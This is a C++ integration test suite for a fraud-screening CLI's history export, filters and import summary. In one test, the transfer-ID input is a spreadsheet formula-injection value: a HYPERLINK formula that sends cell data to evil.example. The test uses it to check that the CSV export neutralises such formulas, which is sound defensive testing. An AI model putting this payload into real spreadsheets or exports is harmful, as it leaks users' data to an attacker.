// `fraudgate hits` and the past-transfer summary of `fraudgate import`, end
// to end: a real `fraudgate serve --insecure` child process on a temp data dir
// and port 0, screenings sent to it over gRPC (ScreenTransfers, 1000 a call),
// and the CLI run as child processes. The file proves that:
//  - `hits --format=csv` exports every page: one header line, every screening
//    exactly once, newest first, the same rows whatever --page-size; and that
//    its peak RSS stays flat from 3000 to 40000 rows (it streams page by
//    page), measured with /usr/bin/time;
//  - `hits --decision=...` and `--min-score=N` return exactly the matching
//    screenings, and a bad decision name is a usage error naming --decision;
//  - `import`, online and `--offline`, prints how many earlier screenings
//    paid an identifier it added (accounts, phones and phone-alias accounts),
//    one line per such identifier, and nothing when it added nothing; its
//    JSON carries "past_transfers".
// FRAUDGATE_BIN is the path of the binary under test.
#include <fcntl.h>
#include <signal.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <fstream>
#include <iostream>
#include <map>
#include <memory>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include "absl/strings/match.h"
#include "absl/strings/numbers.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_format.h"
#include "absl/strings/str_split.h"
#include "absl/strings/strip.h"
#include "absl/time/clock.h"
#include "absl/time/time.h"
#include "fraudgate/v1/fraudgate.grpc.pb.h"
#include "fraudgate/v1/fraudgate.pb.h"
#include "gmock/gmock.h"
#include "grpcpp/create_channel.h"
#include "grpcpp/security/credentials.h"
#include "gtest/gtest.h"
#include "tests/testing/child_process.h"
#include "tests/testing/temp_dir.h"

namespace fraudgate {
namespace {

using ::testing::EndsWith;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;
using testing::ProcessResult;
using testing::ServeProcess;

constexpr char kCsvHeader[] =
    "report_id,agency,reported_at,category,confidence,kind,issuer,value,"
    "victim_count,amount_lost,note\n";
constexpr char kHitsHeader[] =
    "screened_at,decision,score,amount,transfer,beneficiary,caller,hit_id";
constexpr char kPastLine[] = "past transfers to the added identifiers: ";
constexpr char kPastHint[] =
    " (list them with: fraudgate past --kind=K --issuer=I --value=V)\n";
constexpr char kTime[] = "/usr/bin/time";

// Reports a few days old: full points.
std::string RecentDate() {
  return absl::FormatTime("%Y-%m-%d", absl::Now() - absl::Hours(72),
                          absl::FixedTimeZone(7 * 3600));
}

void WriteFile(const std::string& path, const std::string& content) {
  std::ofstream out(path, std::ios::binary | std::ios::trunc);
  out << content;
  ASSERT_TRUE(out.good()) << path;
}

std::string ReadFile(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::stringstream s;
  s << in.rdbuf();
  return s.str();
}

// A police CSV row of report `report` (agency "PA05 CA Kon Tum").
std::string Row(const std::string& report, const std::string& confidence,
                const std::string& kind, const std::string& issuer,
                const std::string& value) {
  return absl::StrCat(report, ",PA05 CA Kon Tum,", RecentDate(),
                      ",EXTORTION_OTHER,", confidence, ",", kind, ",", issuer,
                      ",", value, ",1,,\n");
}

v1::ScreenTransferRequest ToAccount(const std::string& transfer_id,
                                    const std::string& bank,
                                    const std::string& account,
                                    int64_t amount) {
  v1::ScreenTransferRequest r;
  r.set_transfer_id(transfer_id);
  r.set_amount(amount);
  r.mutable_beneficiary()->set_bank(bank);
  r.mutable_beneficiary()->set_account(account);
  return r;
}

v1::ScreenTransferRequest ToPhone(const std::string& transfer_id,
                                  const std::string& phone, int64_t amount) {
  v1::ScreenTransferRequest r;
  r.set_transfer_id(transfer_id);
  r.set_amount(amount);
  r.mutable_beneficiary()->set_phone(phone);
  return r;
}

// The blocklist of the mixed workload: a CONFIRMED account and phone, and a
// SUSPECTED phone.
std::string MixedBlocklist() {
  return absl::StrCat(
      kCsvHeader,
      Row("L-1", "CONFIRMED", "BANK_ACCOUNT", "970436", "1023456789"),
      Row("L-1", "CONFIRMED", "PHONE", "", "0329123456"),
      Row("L-2", "SUSPECTED", "PHONE", "", "0701234567"));
}

// Transfer `i` of the mixed workload: four in ten to listed beneficiaries
// (the scores of DESIGN §4: BLOCK 90, BLOCK 85 with the amount boost, WARN
// 55, HOLD 60), the rest to unlisted accounts (ALLOW 0).
v1::ScreenTransferRequest MixedTransfer(int i) {
  const std::string id = absl::StrCat("T", i);
  switch (i % 10) {
    case 0:
      return ToAccount(id, "VCB", "1023456789", 2'000'000);
    case 1:
      return ToPhone(id, "+84 32 912 3456", 50'000'000);
    case 2:
      return ToPhone(id, "0701234567", 1'000'000);
    case 3:
      return ToPhone(id, "0120 123 4567", 20'000'000);
    default:
      return ToAccount(id, "BIDV", absl::StrFormat("3141%010d", i),
                       500'000 + i);
  }
}

std::vector<v1::ScreenTransferRequest> MixedTransfers(int from, int to) {
  std::vector<v1::ScreenTransferRequest> transfers;
  for (int i = from; i < to; ++i) transfers.push_back(MixedTransfer(i));
  return transfers;
}

// One screening as the server answered it.
struct Screened {
  v1::Decision decision = v1::DECISION_UNSPECIFIED;
  int score = 0;
};

// One row of a `hits --format=csv` export.
struct HitRow {
  std::string hit_id;
  std::string decision;  // e.g. "BLOCK"
  int score = -1;
};

// The rows of a `hits --format=csv` export, after checking that it exited 0
// and that its first line, and only that, is the header.
std::vector<HitRow> ParseExport(const ProcessResult& r) {
  std::vector<HitRow> rows;
  EXPECT_EQ(r.exit_code, 0) << r.Describe();
  EXPECT_THAT(r.out, EndsWith("\n"));
  std::vector<std::string> lines =
      absl::StrSplit(r.out, '\n', absl::SkipEmpty());
  if (lines.empty() || lines.front() != kHitsHeader) {
    ADD_FAILURE() << "no header line:\n" << r.Describe();
    return rows;
  }
  for (size_t i = 1; i < lines.size(); ++i) {
    const std::vector<std::string> fields = absl::StrSplit(lines[i], ',');
    if (fields.size() != 8 || lines[i] == kHitsHeader) {
      ADD_FAILURE() << "line " << i + 1 << ": " << lines[i];
      continue;
    }
    HitRow& row = rows.emplace_back();
    row.hit_id = fields[7];
    row.decision = fields[1];
    EXPECT_TRUE(absl::SimpleAtoi(fields[2], &row.score)) << lines[i];
  }
  return rows;
}

// `fraudgate args...` and the peak resident memory of that process, in KiB.
// /usr/bin/time measures it exactly. wait4() on a child the test spawns
// itself would not: posix_spawn runs the child on the test's memory until it
// execs, and Linux carries that memory's peak into the child's ru_maxrss.
// Without /usr/bin/time, VmHWM is polled from /proc while the child runs,
// which may miss its last milliseconds.
struct MeasuredRun {
  ProcessResult result;
  int64_t peak_rss_kib = -1;
};

MeasuredRun RunMeasured(const std::vector<std::string>& args,
                        const testing::TempDir& dir) {
  MeasuredRun run;
  if (access(kTime, X_OK) == 0) {
    std::vector<std::string> timed = {"-f", "peak_rss_kib=%M", FRAUDGATE_BIN};
    timed.insert(timed.end(), args.begin(), args.end());
    run.result = testing::RunProcess(kTime, timed, absl::Seconds(60));
    const size_t at = run.result.err.rfind("peak_rss_kib=");
    EXPECT_NE(at, std::string::npos) << run.result.Describe();
    if (at == std::string::npos) return run;
    EXPECT_TRUE(absl::SimpleAtoi(
        absl::StripAsciiWhitespace(run.result.err.substr(at + 13)),
        &run.peak_rss_kib))
        << run.result.Describe();
    run.result.err.resize(at);
    return run;
  }
  const std::string out_path = dir.File("measured.out");
  const std::string err_path = dir.File("measured.err");
  std::remove(err_path.c_str());
  const int out =
      open(out_path.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  EXPECT_GE(out, 0) << out_path;
  auto pid = testing::Spawn(FRAUDGATE_BIN, args, out, -1, err_path);
  close(out);
  EXPECT_TRUE(pid.ok()) << pid.status();
  if (!pid.ok()) return run;
  const std::string status_path = absl::StrCat("/proc/", *pid, "/status");
  const absl::Time deadline = absl::Now() + absl::Seconds(60);
  int status = 0;
  while (waitpid(*pid, &status, WNOHANG) == 0) {
    std::ifstream in(status_path);
    for (std::string text; std::getline(in, text);) {
      absl::string_view line = text;
      int64_t kib = 0;
      if (absl::ConsumePrefix(&line, "VmHWM:") &&
          absl::SimpleAtoi(
              absl::StripSuffix(absl::StripAsciiWhitespace(line), " kB"),
              &kib)) {
        run.peak_rss_kib = std::max(run.peak_rss_kib, kib);
      }
    }
    if (absl::Now() > deadline) {
      ADD_FAILURE() << "still running after 60 s; killing it";
      kill(*pid, SIGKILL);
    }
    absl::SleepFor(absl::Milliseconds(1));
  }
  run.result.exit_code = testing::ExitCodeOf(status);
  run.result.out = ReadFile(out_path);
  run.result.err = ReadFile(err_path);
  run.result.command = absl::StrCat("fraudgate ", args.front(), " ...");
  return run;
}

// ---------------------------------------------------------------------------
// The fixture: its own temp dir, a server on it, and a ScreeningService stub
// connected to it.

class HistoryCliTest : public ::testing::Test {
 protected:
  void SetUp() override {
    data_ = dir_.File("data");
    auto server =
        ServeProcess::Start(FRAUDGATE_BIN, data_, dir_.File("server.log"));
    ASSERT_TRUE(server.ok()) << server.status();
    server_ = *std::move(server);
    screening_ = v1::ScreeningService::NewStub(grpc::CreateChannel(
        server_->address(), grpc::InsecureChannelCredentials()));
  }

  void TearDown() override {
    if (server_ != nullptr) StopServer();
  }

  // SIGTERM, expecting a clean exit. The test's channel is closed first: the
  // server's shutdown waits its whole grace period while a client connection
  // is open.
  void StopServer() {
    screening_.reset();
    EXPECT_EQ(server_->Stop(), 0) << server_->Log();
    server_.reset();
  }

  // A client subcommand against the server: args[0] is the subcommand.
  std::vector<std::string> ClientArgs(std::vector<std::string> args) const {
    args.insert(args.begin() + 1,
                {server_->server_flag(), "--insecure", "--timeout=20"});
    return args;
  }
  ProcessResult Client(const std::vector<std::string>& args) const {
    return testing::RunProcess(FRAUDGATE_BIN, ClientArgs(args),
                               absl::Seconds(60));
  }

  // Writes `csv` to the temp dir as `name` and imports it (exit 0 expected).
  ProcessResult Import(const std::string& name, const std::string& csv,
                       std::vector<std::string> flags = {}) {
    WriteFile(dir_.File(name), csv);
    flags.insert(flags.begin(), "import");
    flags.push_back(dir_.File(name));
    ProcessResult r = Client(flags);
    EXPECT_EQ(r.exit_code, 0) << r.Describe();
    return r;
  }

  // Screens `transfers` with ScreenTransfers, 1000 a call; every answer is
  // kept in `screened_` by hit id.
  void Screen(const std::vector<v1::ScreenTransferRequest>& transfers) {
    constexpr size_t kBatch = 1000;
    for (size_t from = 0; from < transfers.size(); from += kBatch) {
      v1::ScreenTransfersRequest request;
      for (size_t i = from; i < transfers.size() && i < from + kBatch; ++i) {
        *request.add_transfers() = transfers[i];
      }
      v1::ScreenTransfersResponse response;
      grpc::ClientContext context;
      context.set_deadline(std::chrono::system_clock::now() +
                           std::chrono::seconds(30));
      const grpc::Status s =
          screening_->ScreenTransfers(&context, request, &response);
      ASSERT_TRUE(s.ok()) << s.error_message();
      ASSERT_EQ(response.results_size(), request.transfers_size());
      for (const v1::ScreenTransferResult& result : response.results()) {
        ASSERT_FALSE(result.has_error()) << result.error().message();
        const v1::ScreenTransferResponse& r = result.response();
        ASSERT_TRUE(
            screened_.emplace(r.hit_id(), Screened{r.decision(), r.score()})
                .second)
            << r.hit_id();
      }
    }
  }

  // The hit ids of `screened_` whose screening `keep` accepts.
  template <typename Predicate>
  std::set<std::string> ScreenedWhere(Predicate keep) const {
    std::set<std::string> ids;
    for (const auto& [id, s] : screened_) {
      if (keep(s)) ids.insert(id);
    }
    return ids;
  }

  // Checks that `rows` are the screenings of `screened_`, each exactly once,
  // newest first (hit ids are the hex of big-endian time + sequence), each
  // with the decision and score it was screened with.
  void ExpectEveryScreeningOnceNewestFirst(const std::vector<HitRow>& rows) {
    ASSERT_EQ(rows.size(), screened_.size());
    std::set<std::string> seen;
    for (size_t i = 0; i < rows.size(); ++i) {
      const HitRow& row = rows[i];
      ASSERT_TRUE(seen.insert(row.hit_id).second) << "twice: " << row.hit_id;
      if (i > 0) {
        ASSERT_GT(rows[i - 1].hit_id, row.hit_id) << "row " << i;
      }
      auto it = screened_.find(row.hit_id);
      ASSERT_NE(it, screened_.end()) << "never screened: " << row.hit_id;
      ASSERT_EQ(row.decision, v1::Decision_Name(it->second.decision).substr(9))
          << row.hit_id;
      ASSERT_EQ(row.score, it->second.score) << row.hit_id;
    }
  }

  testing::TempDir dir_;
  std::string data_;
  std::unique_ptr<ServeProcess> server_;
  std::unique_ptr<v1::ScreeningService::Stub> screening_;
  std::map<std::string, Screened> screened_;  // by hit id
};

std::set<std::string> HitIds(const std::vector<HitRow>& rows) {
  std::set<std::string> ids;
  for (const HitRow& row : rows) ids.insert(row.hit_id);
  return ids;
}

// ---------------------------------------------------------------------------
// 1. The CSV export.

TEST_F(HistoryCliTest, CsvExportStreamsEveryPageInConstantMemory) {
  constexpr int kFew = 3000;
  constexpr int kMany = 40000;
  // Over the extra 37000 rows the streaming export grows by well under 1 MB;
  // a client that kept the rows (as strings) and printed them at the end was
  // measured growing by about 13.5 MB.
  constexpr int64_t kMaxGrowthKib = 8 * 1024;
  Import("listed.csv", MixedBlocklist());
  ASSERT_NO_FATAL_FAILURE(Screen(MixedTransfers(0, kFew)));

  const std::vector<std::string> export_args =
      ClientArgs({"hits", "--format=csv"});
  MeasuredRun few = RunMeasured(export_args, dir_);
  ASSERT_NO_FATAL_FAILURE(
      ExpectEveryScreeningOnceNewestFirst(ParseExport(few.result)));
  EXPECT_THAT(few.result.err, IsEmpty()) << few.result.Describe();
  EXPECT_EQ(ScreenedWhere([](const Screened& s) {
              return s.decision == v1::DECISION_ALLOW;
            }).size(),
            kFew * 6 / 10);

  // Small pages: the same rows, byte for byte.
  ProcessResult small_pages = Client({"hits", "--format=csv", "--page-size=7"});
  ASSERT_EQ(small_pages.exit_code, 0) << small_pages.Describe();
  EXPECT_TRUE(small_pages.out == few.result.out)
      << "--page-size=7 exported " << small_pages.out.size()
      << " bytes, the default pages " << few.result.out.size();

  ASSERT_NO_FATAL_FAILURE(Screen(MixedTransfers(kFew, kMany)));
  MeasuredRun many = RunMeasured(export_args, dir_);
  ASSERT_NO_FATAL_FAILURE(
      ExpectEveryScreeningOnceNewestFirst(ParseExport(many.result)));
  ASSERT_EQ(screened_.size(), static_cast<size_t>(kMany));

  ASSERT_GT(few.peak_rss_kib, 0);
  ASSERT_GT(many.peak_rss_kib, 0);
  std::cout << "history_cli_test: peak RSS of hits --format=csv: " << kFew
            << " rows " << few.peak_rss_kib << " KiB, " << kMany << " rows "
            << many.peak_rss_kib << " KiB (CSV " << few.result.out.size() / 1024
            << " KiB and " << many.result.out.size() / 1024 << " KiB)"
            << std::endl;
#if defined(__SANITIZE_ADDRESS__) || defined(__has_feature)
#if defined(__SANITIZE_ADDRESS__) || __has_feature(address_sanitizer)
#define FRAUDGATE_ASAN 1
#endif
#endif
#ifndef FRAUDGATE_ASAN
  EXPECT_LT(many.peak_rss_kib - few.peak_rss_kib, kMaxGrowthKib)
      << "the export does not stream: " << few.peak_rss_kib << " KiB for "
      << kFew << " rows, " << many.peak_rss_kib << " KiB for " << kMany;
#else
  // Under AddressSanitizer (scripts/sanitize.sh) resident memory says
  // nothing about streaming: its allocator and shadow memory grew the same
  // export by ~100 MB even with quarantine off. The normal suite asserts the
  // bound; this build still checks every row above.
#endif
}

// A transfer id is the caller's text: one that a spreadsheet would run as a
// formula comes out of `hits` and `past` with a quote before it, quoted,
// while the numbers stay numbers.
TEST_F(HistoryCliTest, CsvExportNeutralisesFormulas) {
  const std::string formulas[] = {
      R"csv(=HYPERLINK("http://evil.example/?"&A1,"invoice"))csv", "@SUM(1+1)",
      "+1+1", "-2+3"};
  std::vector<v1::ScreenTransferRequest> transfers;
  for (const std::string& id : formulas) {
    transfers.push_back(ToAccount(id, "BIDV", "3141 0001 234567", 1'500'000));
  }
  ASSERT_NO_FATAL_FAILURE(Screen(transfers));
  const std::string neutralised[] = {
      R"csv("'=HYPERLINK(""http://evil.example/?""&A1,""invoice"")")csv",
      "\"'@SUM(1+1)\"", "\"'+1+1\"", "\"'-2+3\""};
  for (const std::vector<std::string>& args :
       {std::vector<std::string>{"hits", "--format=csv"},
        std::vector<std::string>{"past", "--format=csv", "--kind=BANK_ACCOUNT",
                                 "--issuer=BIDV",
                                 "--value=3141 0001 234567"}}) {
    const ProcessResult r = Client(args);
    ASSERT_EQ(r.exit_code, 0) << r.Describe();
    const std::vector<std::string> lines =
        absl::StrSplit(r.out, '\n', absl::SkipEmpty());
    ASSERT_EQ(lines.size(), 1u + 4u) << r.Describe();
    EXPECT_EQ(lines[0], kHitsHeader);
    for (const std::string& cell : neutralised) {
      EXPECT_THAT(r.out, HasSubstr(",1500000," + cell + ",")) << r.Describe();
    }
    for (size_t i = 1; i < lines.size(); ++i) {
      for (absl::string_view field : absl::StrSplit(lines[i], ',')) {
        EXPECT_TRUE(field.empty() || !absl::StrContains("=+-@", field[0]))
            << "a cell starts like a formula: " << lines[i];
      }
    }
  }
}

// 2. Filters.

TEST_F(HistoryCliTest, HitsFiltersByDecisionAndMinScore) {
  Import("listed.csv", MixedBlocklist());
  ASSERT_NO_FATAL_FAILURE(Screen(MixedTransfers(0, 200)));
  const auto decided = [](v1::Decision d) {
    return [d](const Screened& s) { return s.decision == d; };
  };
  const std::set<std::string> block =
      ScreenedWhere(decided(v1::DECISION_BLOCK));
  const std::set<std::string> hold = ScreenedWhere(decided(v1::DECISION_HOLD));
  const std::set<std::string> high =
      ScreenedWhere([](const Screened& s) { return s.score >= 90; });
  // The workload has BLOCKs below 90 (the confirmed phone), so the two
  // filters differ.
  ASSERT_EQ(block.size(), 40u);
  ASSERT_EQ(hold.size(), 20u);
  ASSERT_EQ(high.size(), 20u);
  ASSERT_EQ(ScreenedWhere(decided(v1::DECISION_WARN)).size(), 20u);

  std::vector<HitRow> rows =
      ParseExport(Client({"hits", "--format=csv", "--decision=block"}));
  EXPECT_EQ(HitIds(rows), block);
  for (const HitRow& row : rows) EXPECT_EQ(row.decision, "BLOCK");

  std::set<std::string> block_or_hold = block;
  block_or_hold.insert(hold.begin(), hold.end());
  EXPECT_EQ(HitIds(ParseExport(
                Client({"hits", "--format=csv", "--decision=Block,hold"}))),
            block_or_hold);

  rows = ParseExport(Client({"hits", "--format=csv", "--min-score=90"}));
  EXPECT_EQ(HitIds(rows), high);
  for (const HitRow& row : rows) EXPECT_GE(row.score, 90);

  // Both filters: both must hold.
  EXPECT_EQ(
      HitIds(ParseExport(Client({"hits", "--format=csv",
                                 "--decision=hold,block", "--min-score=86"}))),
      high);
  EXPECT_THAT(ParseExport(Client({"hits", "--format=csv", "--decision=warn",
                                  "--min-score=56"})),
              IsEmpty());

  // The table prints one page, and how to get the next.
  ProcessResult table =
      Client({"hits", "--decision=BLOCK", "--min-score=90", "--page-size=5"});
  ASSERT_EQ(table.exit_code, 0) << table.Describe();
  EXPECT_THAT(table.out, HasSubstr("more: --page-token="));
  const std::vector<std::string> lines =
      absl::StrSplit(table.out, '\n', absl::SkipEmpty());
  EXPECT_EQ(lines.size(), 1u + 5u + 1u) << table.out;  // header, rows, more

  for (const char* bad : {"--decision=nope", "--decision=BLOCK,nope"}) {
    ProcessResult r = Client({"hits", bad});
    EXPECT_EQ(r.exit_code, 2) << r.Describe();
    EXPECT_THAT(r.err, HasSubstr("--decision")) << r.Describe();
    EXPECT_THAT(r.out, IsEmpty()) << r.Describe();
  }
}

// 3. Past transfers in the import summary.

TEST_F(HistoryCliTest, ImportCountsPastTransfersToAddedIdentifiers) {
  // ALLOWed before any report: three to an account, two to an account whose
  // number is a phone number (a phone alias), four to another account, one
  // to an account that is never listed.
  std::vector<v1::ScreenTransferRequest> before;
  for (int i = 0; i < 3; ++i) {
    before.push_back(
        ToAccount(absl::StrCat("A", i), "BIDV", "3141 0009 876543", 900'000));
  }
  for (int i = 0; i < 2; ++i) {
    before.push_back(
        ToAccount(absl::StrCat("P", i), "TCB", "0912 345 678", 700'000));
  }
  for (int i = 0; i < 4; ++i) {
    before.push_back(
        ToAccount(absl::StrCat("C", i), "ACB", "55500012345", 300'000));
  }
  before.push_back(ToAccount("U0", "MB", "8880001112223", 100'000));
  ASSERT_NO_FATAL_FAILURE(Screen(before));
  EXPECT_EQ(ScreenedWhere([](const Screened& s) {
              return s.decision == v1::DECISION_ALLOW;
            }).size(),
            before.size());

  // The account, the phone (listed as a phone) and an account nobody paid.
  const std::string first = absl::StrCat(
      kCsvHeader,
      Row("P-1", "CONFIRMED", "BANK_ACCOUNT", "970418", "31410009876543"),
      Row("P-1", "CONFIRMED", "PHONE", "", "0912.345.678"),
      Row("P-1", "CONFIRMED", "BANK_ACCOUNT", "970436", "0071009999999"));
  ProcessResult r = Import("first.csv", first);
  EXPECT_THAT(r.out, HasSubstr("identifiers added 3")) << r.Describe();
  EXPECT_THAT(r.out,
              EndsWith(absl::StrCat(kPastLine, 5, kPastHint,
                                    "  3  BANK_ACCOUNT:970418:31410009876543\n",
                                    "  2  PHONE:+84912345678\n")))
      << r.Describe();

  // What `past` lists agrees.
  ProcessResult past = Client({"past", "--format=csv", "--kind=BANK_ACCOUNT",
                               "--issuer=BIDV", "--value=31410009876543"});
  EXPECT_EQ(ParseExport(past).size(), 3u) << past.Describe();

  // Nothing added, nothing to follow up.
  ProcessResult again = Import("first.csv", first);
  EXPECT_THAT(again.out, HasSubstr("identifiers added 0")) << again.Describe();
  EXPECT_THAT(again.out, Not(HasSubstr("past transfers"))) << again.Describe();
  ProcessResult again_json = Import("first.csv", first, {"--format=json"});
  EXPECT_THAT(again_json.out, HasSubstr("\"past_transfers\":0,"))
      << again_json.Describe();

  // A fresh import as JSON.
  ProcessResult json =
      Import("second.csv",
             absl::StrCat(kCsvHeader, Row("P-2", "SUSPECTED", "BANK_ACCOUNT",
                                          "ACB", "555-000-12345")),
             {"--format=json"});
  EXPECT_THAT(json.out, HasSubstr("\"identifiers_added\":1,"))
      << json.Describe();
  EXPECT_THAT(json.out, HasSubstr("\"past_transfers\":4,")) << json.Describe();
  EXPECT_THAT(json.out, Not(HasSubstr(kPastLine))) << json.Describe();
}

TEST_F(HistoryCliTest, OfflineImportCountsPastTransfersToAddedIdentifiers) {
  // Two transfers to an account and one to a phone, screened online.
  ASSERT_NO_FATAL_FAILURE(
      Screen({ToAccount("A0", "MB", "8880001112223", 100'000),
              ToAccount("A1", "970422", "888.000.111.2223", 200'000),
              ToPhone("P0", "+84 988 777 666", 300'000)}));
  ASSERT_NO_FATAL_FAILURE(StopServer());

  const std::string csv = absl::StrCat(
      kCsvHeader,
      Row("O-1", "CONFIRMED", "BANK_ACCOUNT", "MB", "8880001112223"),
      Row("O-1", "CONFIRMED", "PHONE", "", "0988777666"),
      Row("O-1", "CONFIRMED", "PHONE", "", "0988777667"));
  WriteFile(dir_.File("offline.csv"), csv);
  const std::vector<std::string> args = {
      "import", "--offline", "--data=" + data_, dir_.File("offline.csv")};
  ProcessResult r = testing::RunProcess(FRAUDGATE_BIN, args);
  ASSERT_EQ(r.exit_code, 0) << r.Describe();
  EXPECT_THAT(r.out, HasSubstr("identifiers added 3")) << r.Describe();
  EXPECT_THAT(r.out,
              EndsWith(absl::StrCat(kPastLine, 3, kPastHint,
                                    "  2  BANK_ACCOUNT:970422:8880001112223\n",
                                    "  1  PHONE:+84988777666\n")))
      << r.Describe();

  ProcessResult again = testing::RunProcess(FRAUDGATE_BIN, args);
  ASSERT_EQ(again.exit_code, 0) << again.Describe();
  EXPECT_THAT(again.out, HasSubstr("identifiers added 0")) << again.Describe();
  EXPECT_THAT(again.out, Not(HasSubstr("past transfers"))) << again.Describe();
}

}  // namespace
}  // namespace fraudgate
